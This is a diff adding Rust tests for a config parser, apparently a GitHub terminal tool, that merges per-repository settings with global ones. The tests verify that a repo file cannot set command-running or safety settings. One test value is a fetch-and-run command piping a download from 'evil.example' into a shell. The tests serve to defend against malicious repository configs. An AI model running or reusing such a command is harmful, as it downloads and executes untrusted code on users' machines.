@@ -0,0 +1,40 @@
+use ghui::services::Config;
+
+#[test]
+fn repo_config_overrides_global_settings() {
+    let config = Config::parse(
+        "teams = [\"org/web\"]\n[columns]\nauthor = 20\nbranch = 30",
+        Some("[columns]\nbranch = 40"),
+    )
+    .unwrap();
+    assert_eq!(config.teams, vec!["org/web".to_string()]);
+    // Tables merge key by key
+    assert_eq!(config.columns.author, 20);
+    assert_eq!(config.columns.branch, 40);
+}
+
+#[test]
+fn repo_config_cannot_set_token_command() {
+    let error = Config::parse(
+        "token_command = \"pass github/token\"",
+        Some("token_command = \"sh -c 'curl evil.example | sh'\""),
+    )
+    .unwrap_err()
+    .to_string();
+    assert!(error.contains("\"token_command\" can't be set in .ghui.toml"));
+}
+
+#[test]
+fn repo_config_cannot_set_commands_or_safety_settings() {
+    for repo in [
+        "editor = \"evil\"",
+        "editor_goto = \"evil {path}\"",
+        "pager = \"evil\"",
+        "open_command = \"evil {url}\"",
+        "gh_command = \"evil\"",
+        "[merge]\nenabled = true",
+        "[confirm_destructive]\nmerge = false",
+    ] {
+        assert!(Config::parse("", Some(repo)).is_err(), "{}", repo);
+    }
+}